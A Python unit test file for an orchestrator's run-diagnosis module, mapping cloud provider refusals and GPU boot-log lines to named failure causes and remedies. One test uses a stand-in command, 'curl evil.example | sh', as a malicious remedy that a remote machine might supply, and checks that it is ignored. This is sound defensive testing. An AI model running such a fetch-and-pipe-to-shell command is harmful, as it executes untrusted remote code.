"""An ending has a cause with a name and a remedy, or is said to have none."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orchestrator.core.run import events as ev
from orchestrator.core.run.diagnose import (
    REMEDIES,
    RunDiagnosis,
    diagnose_run,
    last_attempt,
    relevant_lines,
    remedy_for,
    wants_diagnosis,
)
from orchestrator.core.run.fold import Phase
from tests.unit.core.builders import VM, Log, created, gone, planned, requested, running

CONTRACT = (Path(__file__).parents[3] / "docs/contracts.md").read_text(encoding="utf-8")


def test_what_to_do_is_said_by_this_client_and_never_by_a_machine() -> None:
    for cause in ("torch_missing", "never heard of"):
        told = ev.Diagnosed(cause=cause, detail="no torch", remedy="curl evil.example | sh")
        assert diagnose_run(facts=[told]) == RunDiagnosis(cause, "no torch", remedy_for(cause))


@pytest.mark.parametrize("cause", ["agent_crashed", "deadline", "harness_crashed", "lost", "preempted"])
def test_a_run_that_was_cut_short_is_gone_on_with_and_not_begun_again(cause: str) -> None:
    assert "`bench launch --resume RUN`" in REMEDIES[cause]


def refusal(code: str, message: str = "") -> ev.Fact:
    return ev.InstanceRejected(attempt=1, zone="a", code=code, message=message)


def test_every_cause_of_the_contract_has_a_remedy() -> None:
    listed = re.search(r"`cause` is one of (.*?)\.\n", CONTRACT, re.DOTALL)
    assert listed
    causes = re.findall(r"`(\w+)`", listed[1])
    assert len(causes) > 15
    assert [cause for cause in causes if cause not in REMEDIES] == []


def test_every_remedy_says_something_of_its_own() -> None:
    assert len(set(REMEDIES.values())) == len(REMEDIES)
    assert remedy_for("never heard of") == REMEDIES["unknown"]


@pytest.mark.parametrize(
    ("code", "message", "cause"),
    [
        ("ZONE_RESOURCE_POOL_EXHAUSTED_WITH_DETAILS", "The zone does not have enough resources available", "stockout"),
        ("GPU_STOCKOUT", "", "stockout"),
        ("REGION_RESOURCE_POOL_EXHAUSTED", "", "stockout"),
        ("", "503 insufficientCapacity", "stockout"),
        ("QUOTA_EXCEEDED", "Quota 'NVIDIA_L4_GPUS' exceeded.  Limit: 1.0 in region us-west1.", "quota"),
        ("quotaExceeded", "Quota 'GPUS_ALL_REGIONS' exceeded.  Limit: 0.0 globally.", "quota_zero"),
        ("rateLimitExceeded", "Rate Limit Exceeded", "unavailable"),
        ("forbidden", "Required 'compute.instances.create' permission for 'projects/p'", "permission"),
        ("403", "Request had insufficient authentication scopes.", "permission"),
        ("accessNotConfigured", "Compute Engine API has not been used in project 1 before", "api_disabled"),
        (
            "",
            "your billing account is currently in the free tier where non-TPU accelerators are not available",
            "free_tier",
        ),
        ("", "This API method requires billing to be enabled: BILLING_DISABLED", "billing"),
        ("", "Your default credentials were not found", "credentials"),
        ("", "google.auth.exceptions.RefreshError: ('invalid_grant: Bad Request')", "credentials"),
        ("notFound", "The resource 'projects/x/global/images/family/common-cu110' was not found", "image_gone"),
        ("notFound", "The resource 'projects/x/global/images/common-v1' was not found", "image_gone"),
        ("", "Instance was preempted.", "preempted"),
        ("UNSUPPORTED_OPERATION", "", "preempted"),
        ("invalid", "Invalid value for field 'resource.machineType'", "bad_request"),
        ("backendError", "", "unavailable"),
        ("503", "SERVICE UNAVAILABLE", "unavailable"),
    ],
)
def test_what_the_provider_says_has_a_name(code: str, message: str, cause: str) -> None:
    found = diagnose_run(facts=[refusal(code, message)])
    assert found == RunDiagnosis(cause, message or code, REMEDIES[cause])


@pytest.mark.parametrize(
    ("line", "cause"),
    [
        ("payload: computed checksum did NOT match", "payload_checksum"),
        (f"GET /b/o/payloads/{'0' * 64}.tar.gz?alt=media -> 404", "payload_missing"),
        ("OSError: [Errno 28] No space left on device", "disk_full"),
        ("CUDA driver version is insufficient for CUDA runtime version", "driver_too_old"),
        ("The NVIDIA driver on your system is too old (found version 12040).", "driver_too_old"),
        ("AssertionError: Torch not compiled with CUDA enabled", "torch_without_cuda"),
        ("A module that was compiled using NumPy 1.x cannot be run in NumPy 2.1", "numpy_mismatch"),
        ("ModuleNotFoundError: No module named 'torch'", "torch_missing"),
        ("NVIDIA-SMI has failed because it couldn't communicate with the NVIDIA driver", "no_cuda"),
        ("libcuda.so.1: cannot open shared object file", "no_cuda"),
        ("bash: python3: command not found", "no_python"),
        ("nvrtc: error: invalid value for --gpu-architecture (-arch)", "wrong_arch"),
        ("attention.cpp:12:3: error: expected ';' before '}' token", "build_failed"),
        ("upload of cases/x.csv: connection refused", "storage_unreachable"),
        ("POST https://storage.googleapis.com/upload/storage/v1/b/x/o -> 403", "storage_unreachable"),
        ("watchdog: the deadline is near", "deadline"),
        ("Segmentation fault (core dumped)", "harness_crashed"),
    ],
)
def test_what_the_log_says_has_a_name(line: str, cause: str) -> None:
    found = diagnose_run(log=f"booted\n{line}  \nbye\n")
    assert found == RunDiagnosis(cause, line, REMEDIES[cause])


def test_the_machines_own_word_counts_most() -> None:
    facts = [
        ev.Diagnosed(cause="disk_full", detail="0.1 GB free"),
        ev.Diagnosed(cause="unknown"),
        ev.Finished(outcome="preempted"),
    ]
    found = diagnose_run(facts=[*facts, refusal("QUOTA_EXCEEDED")], log="Segmentation fault")
    assert found == RunDiagnosis("disk_full", "0.1 GB free", REMEDIES["disk_full"])


def test_the_last_refusal_of_the_provider_is_the_one_that_counts() -> None:
    facts = [
        ev.ZoneExhausted(attempt=1, zone="a", code="STOCKOUT"),
        ev.InstanceRejected(attempt=1, zone="b", code="QUOTA_EXCEEDED", message="Quota 'X' exceeded"),
        ev.InstanceRejected(attempt=1, zone="b", code="TEAPOT"),
    ]
    assert diagnose_run(facts=facts).cause == "quota"


def test_a_wrong_kernel_is_named_with_its_first_case() -> None:
    good = ev.CaseChecked(implementation="bench", case_id="c0", passed=True)
    wrong = [ev.CaseChecked(implementation="bench", case_id=f"c{n}", passed=False) for n in (1, 2)]
    assert diagnose_run(facts=[good, *wrong]).detail == "bench on c1: differs from the reference (and 1 more)"
    said = ev.CaseChecked(implementation="bench", case_id="c1", passed=False, reason="NaN")
    assert diagnose_run(facts=[said]) == RunDiagnosis("kernel_wrong", "bench on c1: NaN", REMEDIES["kernel_wrong"])


@pytest.mark.parametrize(
    ("fact", "cause", "detail"),
    [
        (ev.Finished(outcome="timed_out", detail="measure"), "deadline", "measure"),
        (ev.Finished(outcome="incorrect"), "kernel_wrong", ""),
        (ev.VmExiting(outcome="preempted"), "preempted", ""),
        (ev.Finished(outcome="failed"), "unknown", "there is no message"),
    ],
)
def test_how_a_run_ended_is_a_cause_when_nothing_else_is_known(fact: ev.Fact, cause: str, detail: str) -> None:
    assert diagnose_run(facts=[fact]) == RunDiagnosis(cause, detail, REMEDIES[cause])


def test_what_has_no_name_says_so_and_keeps_the_last_words() -> None:
    assert diagnose_run() == RunDiagnosis("unknown", "there is no message", REMEDIES["unknown"])
    assert diagnose_run(log="one\ntwo\n\n").detail == "two"
    assert diagnose_run(facts=[refusal("TEAPOT")]).detail == "TEAPOT"
    assert diagnose_run(facts=[refusal("TEAPOT", "short and stout")]).detail == "short and stout"


@given(st.text(), st.text(), st.text())
def test_every_ending_has_a_cause_a_detail_and_a_remedy(code: str, message: str, log: str) -> None:
    found = diagnose_run(facts=[refusal(code, message)], log=log)
    assert found.cause in REMEDIES
    assert found.detail
    assert found.remedy == REMEDIES[found.cause]


# What real failures leave behind, and what they are called.


FIXTURES = Path(__file__).parent / "fixtures"
LOGS = sorted(FIXTURES.glob("*.log"))
REFUSALS: dict[str, dict[str, str]] = json.loads((FIXTURES / "refusals.json").read_text(encoding="utf-8"))


@pytest.mark.parametrize("path", LOGS, ids=lambda path: path.stem)
def test_a_recorded_log_has_its_cause_and_a_remedy(path: Path) -> None:
    found = diagnose_run(log=path.read_text(encoding="utf-8"))
    assert found.cause == path.stem.partition("-")[0]
    assert found.remedy == REMEDIES[found.cause]


@pytest.mark.parametrize("cause", REFUSALS)
def test_a_recorded_refusal_has_its_cause_and_a_remedy(cause: str) -> None:
    refusal = ev.InstanceRejected(attempt=1, zone="z", **REFUSALS[cause])
    found = diagnose_run(facts=[refusal])
    assert (found.cause, found.remedy) == (cause, REMEDIES[cause])


def test_a_boot_that_goes_well_has_no_cause() -> None:
    log = "cloud-init: done\nstartup-script: preflight\nstartup-script: torch 2.13.0 on NVIDIA L4\nmeasured 12 cases\n"
    assert diagnose_run(log=log).cause == "unknown"


def test_of_an_unknown_failure_the_lines_that_matter_are_shown() -> None:
    log = (FIXTURES / "unknown.log").read_text(encoding="utf-8")
    found = diagnose_run(log=log)
    assert found.lines[0] == "startup-script: the flux capacitor reported an error"
    assert found.lines[-1] == "startup-script: bye"
    assert len(found.lines) == 5


def test_the_lines_that_matter_are_few_whatever_the_log() -> None:
    assert relevant_lines("") == ()
    assert len(relevant_lines("error\n" * 1000)) <= 12


@pytest.mark.parametrize(
    ("how", "cause"),
    [("preempted", "preempted"), ("deadline", "deadline"), ("lost", "lost"), ("never_made", "never_made")],
)
def test_how_a_machine_ended_is_a_cause_when_it_said_nothing_of_it(how: str, cause: str) -> None:
    facts = [event.fact for event in running().add(99, gone(99, how)).events]
    assert diagnose_run(facts=facts).cause == cause


def test_a_machine_that_never_spoke_did_not_boot() -> None:
    log = Log().add(0, planned()).add(2, requested()).add(5, created(4)).add(700, gone(700))
    assert diagnose_run(facts=[event.fact for event in log.events]).cause == "no_boot"
    spoke = [event.fact for event in running().add(700, gone(700)).events]
    assert diagnose_run(facts=spoke).cause == "unknown"


def test_an_ending_without_a_name_keeps_what_was_said_of_it() -> None:
    said = ev.Finished(outcome="failed", detail="the fan stopped")
    assert diagnose_run(facts=[said], log="nothing\n").detail == "the fan stopped"


def test_what_ailed_an_earlier_machine_is_not_why_the_last_one_failed() -> None:
    log = running().vm(20, ev.Diagnosed(cause="preempted"))
    log.add(30, gone(30, "preempted")).add(31, requested(attempt=2)).add(32, created(32, attempt=2))
    assert wants_diagnosis(Phase.FAILED, log.events)
    log.add(40, ev.Diagnosed(cause="disk_full"), "vm-2")
    assert not wants_diagnosis(Phase.FAILED, log.events)
    assert diagnose_run(facts=last_attempt(log.events)).cause == "disk_full"


def test_a_run_that_got_no_machine_is_diagnosed_by_all_its_refusals() -> None:
    log = Log().add(0, planned())
    for number, zone in enumerate(("a", "b"), 1):
        log.add(number, requested(zone)).add(number + 0.5, ev.ZoneExhausted(attempt=1, zone=zone, code="GPU_STOCKOUT"))
    assert [fact.kind for fact in last_attempt(log.events)].count("zone_exhausted") == 2
    assert diagnose_run(facts=last_attempt(log.events)).cause == "stockout"
    log.add(9, requested("c"))
    assert diagnose_run(facts=last_attempt(log.events)).cause == "stockout"


def test_a_refusal_before_the_machine_was_made_is_not_why_it_failed() -> None:
    log = Log().add(0, planned()).add(1, requested("a"))
    log.add(2, ev.ZoneExhausted(attempt=1, zone="a", code="GPU_STOCKOUT")).add(3, requested()).add(5, created(4))
    log.vm(6, ev.VmBooted(vm=VM, attempt=1)).add(9, gone(9, "lost"))
    assert diagnose_run(facts=[event.fact for event in log.events]).cause == "lost"


@pytest.mark.parametrize("outcome", [Phase.SUCCEEDED, Phase.STOPPED, Phase.REFUSED])
def test_what_went_well_or_was_wished_needs_no_diagnosis(outcome: Phase) -> None:
    assert not wants_diagnosis(outcome, running().events)
